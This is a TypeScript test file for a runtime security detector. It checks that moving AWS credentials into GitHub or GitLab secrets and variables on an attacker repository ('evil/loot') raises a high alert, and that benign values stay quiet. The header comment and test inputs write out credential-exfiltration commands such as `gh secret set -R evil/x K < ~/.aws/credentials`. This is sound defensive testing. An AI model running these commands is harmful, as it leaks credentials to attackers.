/**
 * Values stored in a forge's settings (red-team review): `gh secret set -R evil/x K < ~/.aws/credentials`, `gh
 * secret set K --body "$(cat token)"`, `gh variable set` with a file's contents and `glab variable set` upload a
 * credential to the attacker's repository, whose workflows read it back; none was a push, and a few hundred bytes
 * are far under the egress threshold. A short one-line variable (a version) and listing secrets stay quiet.
 * Checked as exported Tetragon and Falco JSON lines through the real scan path; kept out of the scenario library
 * (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const CREDS = '/home/dev/.aws/credentials';
const DNS = { 'api.github.com': '140.82.121.6', 'gitlab.com': '172.65.251.78' };

/**
 * The job's shell reads the credentials (`$(cat …)` or a redirect into the client's stdin), then the client
 * talks to its forge's API.
 */
async function alertsOf(name: string, binary: string, args: string, host: string, form: SensorForm) {
  const s = inlineScenario(name, DNS, [
    { at: '1s', exec: { id: 'cat', parent: 'app', binary: '/usr/bin/cat', args: CREDS, uid: 1000 } },
    { after: '2ms', read: { proc: 'cat', path: CREDS, bytes: 116 } },
    { after: '3ms', exit: { proc: 'cat' } },
    { after: '5ms', exec: { id: 'cli', parent: 'app', binary, args, uid: 1000 } },
    { after: '5ms', upload: { proc: 'cli', to: `${host}:443`, bytes: '3KiB', over: '400ms' } },
    { after: '10ms', exit: { proc: 'cli' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

const GH_HIGH = [{ rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' }];

describe('values stored in forge settings', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`a credential set as a GitHub secret, by stdin or --body, is high (${form})`, async () => {
      expect(
        await alertsOf('gh-secret-stdin', '/usr/bin/gh', 'secret set AWS -R evil/loot', 'api.github.com', form),
      ).toEqual(GH_HIGH);
      const body = 'secret set TOKEN --body AKIAIOSFODNN7EXAMPLE -R evil/loot';
      expect(await alertsOf('gh-secret-body', '/usr/bin/gh', body, 'api.github.com', form)).toEqual(GH_HIGH);
    });

    it(`a credential file's contents set as a GitHub variable is high (${form})`, async () => {
      const body =
        'variable set CFG --body "[default] aws_access_key_id = AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI" -R evil/loot';
      expect(await alertsOf('gh-variable-body', '/usr/bin/gh', body, 'api.github.com', form)).toEqual(GH_HIGH);
      expect(
        await alertsOf('gh-variable-file', '/usr/bin/gh', `variable set -f ${CREDS}`, 'api.github.com', form),
      ).toEqual(GH_HIGH);
    });

    it(`a credential set as a GitLab CI/CD variable is high (${form})`, async () => {
      expect(
        await alertsOf('glab-variable', '/usr/bin/glab', 'variable set AWS --masked -R evil/loot', 'gitlab.com', form),
      ).toEqual([{ rule: 'sensitive-read-then-push', severity: 'high', tool: 'glab', destination: 'gitlab.com' }]);
    });

    it(`listing secrets, or setting a version as a variable, after reading credentials is quiet (${form})`, async () => {
      expect(
        await alertsOf('gh-secret-list', '/usr/bin/gh', 'secret list -R acme/app', 'api.github.com', form),
      ).toEqual([]);
      const version = 'variable set VERSION --body 1.4.2 -R acme/app';
      expect(await alertsOf('gh-variable-version', '/usr/bin/gh', version, 'api.github.com', form)).toEqual([]);
      expect(await alertsOf('glab-variable-list', '/usr/bin/glab', 'variable list', 'gitlab.com', form)).toEqual([]);
      // A release job's digest, and GitLab's last deployed commit (found by a false-positive review: both high).
      const digest = `variable set IMAGE_DIGEST --body sha256:${'0123456789abcdef'.repeat(4)} -R acme/app`;
      expect(await alertsOf('gh-variable-digest', '/usr/bin/gh', digest, 'api.github.com', form)).toEqual([]);
      const sha = `variable update LAST_DEPLOYED_SHA --value ${'0123456789'.repeat(4)}`;
      expect(await alertsOf('glab-variable-sha', '/usr/bin/glab', sha, 'gitlab.com', form)).toEqual([]);
    });

    it(`the alert of a stored secret says where to look: the secrets and variables, not pushes (${form})`, async () => {
      const s = inlineScenario('gh-secret-response', DNS, [
        {
          at: '1s',
          exec: { id: 'cli', parent: 'app', binary: '/usr/bin/gh', args: 'secret set K -R evil/loot', uid: 0 },
        },
        { after: '2ms', read: { proc: 'cli', path: CREDS, bytes: 116 } },
        { after: '5ms', upload: { proc: 'cli', to: 'api.github.com:443', bytes: '3KiB', over: '400ms' } },
        { after: '10ms', exit: { proc: 'cli' } },
      ]);
      const [alert] = (await runInlineScenario(s, form)).alerts;
      expect(alert?.response.some((step) => step.startsWith('Review the secrets and variables of evil/loot'))).toBe(
        true,
      );
    });
  }
});
